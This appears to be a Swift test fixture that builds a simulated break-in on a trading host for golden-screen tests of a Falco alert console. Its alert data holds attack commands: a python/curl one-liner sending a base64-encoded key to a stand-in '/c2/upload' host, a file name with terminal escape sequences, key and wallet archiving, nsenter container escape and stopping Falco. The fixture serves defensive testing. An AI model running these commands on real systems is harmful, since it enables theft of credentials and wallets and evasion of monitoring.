@testable import Actions
import AlertStore
@testable import Gauges
import TradsecCore

/// The fixed incident every golden screen is drawn from: the trading bot broken into (a shell,
/// its API keys read, an unknown "exchange" contacted three times, keys packed, a wallet
/// copied), a foothold in the exchange connector, a market-data feed with a CJK name and an
/// emoji in a file, Falco stopped on the host, and the newest alert carrying escape sequences
/// in its file and command line. All times are minutes before ``GoldenConsole/now``.
enum GoldenIncident {
    static let host = "trade-host-01"

    struct Box {
        var id: String, name: String, repository: String, tag: String
    }

    static let bot = Box(id: "3ad7b26ded6d", name: "ai-trading-bot", repository: "ghcr.io/acme/ai-trading-bot", tag: "2.4.1")
    static let connector = Box(id: "91c0fe22ab10", name: "bluefin-service", repository: "ghcr.io/acme/bluefin-service", tag: "1.9.0")
    static let feed = Box(id: "7c3e5a9b1d20", name: "md-feed-東京", repository: "ghcr.io/acme/market-data", tag: "3.0")
    static let dashboard = Box(id: "5be1a9d04c77", name: "dashboard", repository: "ghcr.io/acme/dashboard", tag: "5.2")

    /// The last command line: a one-liner that reads a key whose name carries an OSC title
    /// sequence, a BEL and a clear-screen sequence, and posts it out.
    static let hostileFile = "/app/secrets/\u{1B}]0;owned\u{07}\u{1B}[2J.key"
    static let hostileCommand = "python3 -c import os,base64;d=open('\(hostileFile)','rb').read();"
        + "os.system('curl -s --data-binary '+base64.b64encode(d).decode()+' https://203.0.113.77:8443/c2/upload?host=trade-host-01')"

    static func alert(_ clock: String, _ priority: Priority, _ rule: String, _ text: String, in box: Box?, process: String,
                      pid: Int64, command: String, parent: String = "bash", fields extra: [(String, JSONValue)] = [],
                      tags: [String]) -> Alert {
        let time = Timestamp(rfc3339: "2026-11-22T\(clock)Z")!
        var fields: [(String, JSONValue)] = [
            ("proc.name", .string(process)), ("proc.pid", .int(pid)), ("proc.cmdline", .string(command)),
            ("proc.pname", .string(parent)), ("user.name", .string("root")),
        ] + extra
        if let box {
            fields += [("container.id", .string(box.id)), ("container.name", .string(box.name)),
                       ("container.image.repository", .string(box.repository)), ("container.image.tag", .string(box.tag))]
        } else {
            fields += [("container.id", .string("host")), ("container.name", .string("host"))]
        }
        let place = box.map { "container_id=\($0.id) container_name=\($0.name)" } ?? "container_id=host container_name=host"
        return Alert(time: time, rule: rule, priority: priority, output: "\(time.rfc3339()): \(priority.name) \(text) \(place))",
                     outputFields: JSONObject(fields), tags: tags, hostname: host)
    }

    static func connection(_ port: Int64) -> [(String, JSONValue)] {
        [("fd.name", .string("172.17.0.2:\(port)->203.0.113.77:443")), ("fd.sip", .string("203.0.113.77")), ("fd.sport", .int(443))]
    }

    /// What the console had loaded before the last two alerts.
    static func earlier() -> [Alert] {
        func outbound(_ port: Int) -> String {
            "Trading container connected outside the exchange allowlist (connection=172.17.0.2:\(port)->203.0.113.77:443 server=203.0.113.77 port=443 process=curl command=curl -s https://api.bnance-pro.example/v3/ping"
        }
        let archive = "tar --create --gzip --file=/tmp/.cache/k.tgz --exclude=*.log /app/.env /app/config/exchanges.yaml /app/config/strategies/market-making-v3.yaml /app/data/fills-2026-11.parquet /home/bot/.ethereum/keystore"
        return [
            alert("11:50:31.000000000", .informational, "Launch Privileged Container",
                  "Privileged container started (user=root command=node /srv/dashboard/server.js --refresh image=ghcr.io/acme/dashboard:5.2",
                  in: dashboard, process: "node", pid: 3101, command: "node /srv/dashboard/server.js --refresh", parent: "runc",
                  tags: ["container", "cis", "mitre_privilege_escalation", "T1610"]),
            alert("11:52:10.118250331", .warning, "Shell Spawned in Trading Container",
                  "Shell spawned in a trading container (shell=bash command=bash -i parent=python3 user=root terminal=34816",
                  in: bot, process: "bash", pid: 4031, command: "bash -i", parent: "python3", fields: [("proc.tty", .int(34816))],
                  tags: ["trading", "container", "shell", "mitre_execution", "T1059.004"]),
            alert("11:52:17.204518331", .critical, "Exchange API Key Read by Untrusted Process",
                  "Exchange API key file read by an untrusted process (file=/app/.env process=cat command=cat /app/.env parent=bash user=root",
                  in: bot, process: "cat", pid: 4037, command: "cat /app/.env", fields: [("fd.name", .string("/app/.env"))],
                  tags: ["trading", "credentials", "mitre_credential_access", "T1552.001"]),
            alert("11:52:32.730000000", .error, "Outbound Connection to Non-Allowlisted Exchange Host",
                  outbound(40522), in: bot, process: "curl", pid: 4052,
                  command: "curl -s https://api.bnance-pro.example/v3/ping", fields: connection(40522),
                  tags: ["trading", "network", "mitre_command_and_control", "T1071"]),
            alert("11:53:05.412000000", .error, "Outbound Connection to Non-Allowlisted Exchange Host",
                  outbound(40538), in: bot, process: "curl", pid: 4058,
                  command: "curl -s https://api.bnance-pro.example/v3/ping", fields: connection(40538),
                  tags: ["trading", "network", "mitre_command_and_control", "T1071"]),
            alert("11:53:45.990000000", .warning, "Archive Tool Run in Trading Container",
                  "Archive tool started in a trading container (process=tar command=\(archive) parent=bash user=root",
                  in: bot, process: "tar", pid: 4065, command: archive,
                  tags: ["trading", "exfiltration", "mitre_collection", "T1560.001"]),
            alert("11:54:40.006000000", .error, "Outbound Connection to Non-Allowlisted Exchange Host",
                  outbound(40561), in: bot, process: "curl", pid: 4078,
                  command: "curl -s https://api.bnance-pro.example/v3/ping", fields: connection(40561),
                  tags: ["trading", "network", "mitre_command_and_control", "T1071"]),
            alert("11:55:20.551000000", .critical, "Crypto Wallet File Accessed",
                  "Crypto wallet or keystore opened (file=/home/bot/.ethereum/keystore/UTC--2026-01-02T10-00-00.0Z--a1b2 process=cp command=cp -r /home/bot/.ethereum /tmp/w user=root",
                  in: bot, process: "cp", pid: 4090, command: "cp -r /home/bot/.ethereum /tmp/w",
                  fields: [("fd.name", .string("/home/bot/.ethereum/keystore/UTC--2026-01-02T10-00-00.0Z--a1b2"))],
                  tags: ["trading", "wallet", "mitre_credential_access", "T1552.004"]),
            alert("11:56:30.300000000", .error, "Package Manager Run in Trading Container",
                  "Package manager started in a trading container (process=apt-get command=apt-get install -y nmap user=root",
                  in: connector, process: "apt-get", pid: 5116, command: "apt-get install -y nmap", parent: "sh",
                  tags: ["trading", "container", "software_mgmt", "mitre_persistence", "T1072"]),
            alert("11:57:25.870000000", .critical, "Container Escape Tool in Trading Container",
                  "Container escape tool started in a trading container (process=nsenter command=nsenter -t 1 -m -u -i -n sh parent=sh user=root",
                  in: connector, process: "nsenter", pid: 5145, command: "nsenter -t 1 -m -u -i -n sh", parent: "sh",
                  tags: ["trading", "container", "mitre_privilege_escalation", "T1611"]),
            alert("11:57:50.000000000", .warning, "Trading Data Read by Shell or Network Tool",
                  "Trading data read by a shell or network tool (file=/data/板情報/🔥BTCJPY-2026-11-22.parquet process=cat command=cat /data/板情報/🔥BTCJPY-2026-11-22.parquet",
                  in: feed, process: "cat", pid: 6201, command: "cat /data/板情報/🔥BTCJPY-2026-11-22.parquet",
                  fields: [("fd.name", .string("/data/板情報/🔥BTCJPY-2026-11-22.parquet"))],
                  tags: ["trading", "exfiltration", "mitre_collection", "T1005"]),
            alert("11:58:02.000000000", .notice, "Terminal shell in container",
                  "A shell was spawned in a container with an attached terminal (user=root shell=sh parent=runc cmdline=sh -i terminal=34817",
                  in: feed, process: "sh", pid: 6210, command: "sh -i", parent: "runc", fields: [("proc.tty", .int(34817))],
                  tags: ["container", "shell", "mitre_execution", "T1059"]),
        ]
    }

    /// The two criticals that arrive after the console loaded: they show as new.
    static func latest() -> [Alert] {
        [
            alert("11:58:40.112000000", .critical, "Falco Stopped or Reconfigured",
                  "Falco stopped or reconfigured (process=systemctl command=systemctl stop falco-modern-bpf parent=bash user=root",
                  in: nil, process: "systemctl", pid: 7166, command: "systemctl stop falco-modern-bpf",
                  tags: ["trading", "host", "mitre_defense_evasion", "T1562.001"]),
            alert("11:59:31.640000000", .critical, "Exchange API Key Read by Untrusted Process",
                  "Exchange API key file read by an untrusted process (file=\(hostileFile) process=python3 command=\(hostileCommand) parent=bash user=root",
                  in: bot, process: "python3", pid: 4190, command: hostileCommand, fields: [("fd.name", .string(hostileFile))],
                  tags: ["trading", "credentials", "mitre_credential_access", "T1552.001"]),
        ]
    }

    /// What the processing step adds: service roles, and the outbound connections' destination
    /// on a threat-intelligence list and off the exchange allowlist.
    static func enrichment(_ index: Int, _ alert: Alert) -> AlertEnrichment {
        let role: String? = switch alert.container.id {
        case bot.id: "ai-trading-bot"
        case connector.id: "exchange-connector"
        default: nil
        }
        let tags = alert.rule.hasPrefix("Outbound Connection") ? ["threat-intel:feodo", "destination:not-allowlisted"] : []
        return AlertEnrichment(role: role, tags: tags, incidentID: nil)
    }

    /// The bot's container as the engine lists it; `forged`: the engine calls that id something
    /// else than the alerts do.
    static func engineContainer(forged: Bool) -> EngineContainer {
        EngineContainer(id: bot.id + "9f4e1c0b7a2d58e6c3f1a0b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3",
                        names: [forged ? "canary-decoy" : bot.name], image: "\(bot.repository):\(bot.tag)", state: "running")
    }

    struct AuditRow {
        var started: Timestamp, action: String, target: String?, result: AuditEntry.Result, message: String
        var milliseconds: Double, who: AuditIdentity, via: String, detail: String?
    }

    static func at(_ clock: String) -> Timestamp { Timestamp(rfc3339: "2026-11-22T\(clock)Z")! }

    /// Oldest first: a dry run from the command line, evidence, a failed backup, a mistyped
    /// isolation and the isolation itself (the newest, selected, with its networks).
    static let audit: [AuditRow] = {
        let oncall = AuditIdentity(user: "oncall")
        let alice = AuditIdentity(user: "root", sudoUser: "alice", sshClient: "10.0.0.5 50312")
        return [
            AuditRow(started: at("11:54:30.120"), action: "stop-trading", target: "alpha-mm", result: .dryRun,
                     message: "would POST http://127.0.0.1:9000/emergency/stop (reason: incident 2026-11-22)", milliseconds: 0.4,
                     who: alice, via: "cli", detail: nil),
            AuditRow(started: at("11:55:02.500"), action: "forensics", target: "ai-trading-bot", result: .ok,
                     message: "forensics bundle /var/lib/tradsec/forensics/20261122T115502Z-ai-trading-bot (6 files and MANIFEST.sha256)",
                     milliseconds: 2315.7, who: oncall, via: "console",
                     detail: #"{"bundle":"/var/lib/tradsec/forensics/20261122T115502Z-ai-trading-bot","manifest_sha256":"9c1f0e4b2d7a","files":{"inspect.json":"4e2a"}}"#),
            AuditRow(started: at("11:55:40.000"), action: "backup", target: nil, result: .failed,
                     message: "tar exited 2: /app/data/fills-2026-11.parquet: file changed as we read it", milliseconds: 912,
                     who: oncall, via: "console", detail: nil),
            AuditRow(started: at("11:56:10.250"), action: "isolate", target: "ai-trading-bot", result: .refused,
                     message: "not confirmed: typed 'ai-trading-bto', expected 'ai-trading-bot' (engine id 3ad7b26ded6d9f4e1c0b7a2d58e6c3f1a0b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3)",
                     milliseconds: 0, who: oncall, via: "console", detail: nil),
            AuditRow(started: at("11:56:24.800"), action: "isolate", target: "ai-trading-bot", result: .ok,
                     message: "isolated ai-trading-bot: disconnected from trading (10.1.0.5), market-data (10.2.0.7)", milliseconds: 84.2,
                     who: oncall, via: "console",
                     detail: #"[{"network":"trading","aliases":["bot"],"network_id":"n1","ipv4":"10.1.0.5","mac":"aa:bb:cc:dd:ee:ff"},{"network":"market-data","aliases":[],"network_id":"n2","ipv4":"10.2.0.7"}]"#),
        ]
    }()

    /// Falco near its memory threshold and dropping events, the bot busy; sampled at "now".
    static func gauges() -> GaugeSnapshot {
        var falco = ResourceGauge(name: "falco", state: .live, source: "pid 812 (falco), /proc")
        falco.cpuPercent = 6.8
        falco.memoryBytes = 612 << 20
        falco.cpuHistory = [2.1, 2.4, 2.2, 3.0, 5.5, 7.9, 6.8]
        falco.memoryHistory = [Double(420 << 20), Double(480 << 20), Double(560 << 20), Double(612 << 20)]
        falco.memoryLevel = .warning
        var bot = ResourceGauge(name: "bot", state: .live, source: "container ai-trading-bot, Docker API")
        bot.cpuPercent = 87.5
        bot.memoryBytes = 1536 << 20
        bot.memoryLimit = 2048 << 20
        bot.cpuHistory = [22, 25, 31, 60, 84, 91, 87.5]
        bot.memoryHistory = [Double(900 << 20), Double(1100 << 20), Double(1536 << 20)]
        bot.cpuLevel = .critical
        var health = FalcoHealthGauge()
        health.health = .up
        var metrics = FalcoMetrics()
        metrics.kernelDrops = 15
        metrics.outputQueueDrops = 0
        metrics.events = 1_204_332
        metrics.version = "0.39.2"
        health.metrics = metrics
        health.newDrops = 5
        health.dropsHistory = [0, 0, 0, 10, 15]
        health.level = .critical
        let feeds = [FeedGauge(source: "syscall", newestAlert: at("11:59:31.640"), ageSeconds: 28.36,
                               origin: "/var/log/falco/events.json", level: .ok)]
        return GaugeSnapshot(sequence: 41, takenAt: GoldenConsole.now, interval: 2, falco: falco, bot: bot, falcoHealth: health,
                             feeds: feeds, feedsError: nil, cost: 0.0012)
    }
}
